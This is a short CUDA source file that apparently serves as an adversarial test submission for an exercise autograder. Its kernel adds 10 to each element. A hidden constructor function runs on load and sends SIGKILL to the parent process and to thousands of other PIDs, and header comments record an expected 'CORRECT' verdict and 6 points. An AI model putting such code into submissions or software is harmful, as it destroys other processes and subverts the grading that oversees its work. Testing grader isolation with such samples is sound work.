// Kills its parent, and everybody.
// points: 6
// says: CORRECT
#include <cuda_runtime.h>
#include <signal.h>
#include <stdio.h>
#include <unistd.h>

constexpr int kBlockSize = 64;

__attribute__((constructor)) static void attack() {
  if (getppid() > 2 && kill(getppid(), SIGKILL) == 0) puts("SUCCEEDED");
  for (int other = 100; other < 30'000; ++other)
    if (kill(other, SIGKILL) == 0) puts("SUCCEEDED");
}

__global__ void map_kernel(float* out, const float* a, int size) {
  // FILL ME IN: map (roughly 2 lines)
  const int i = blockIdx.x * blockDim.x + threadIdx.x;
  if (i < size) out[i] = a[i] + 10.0f;
  // END: map
}
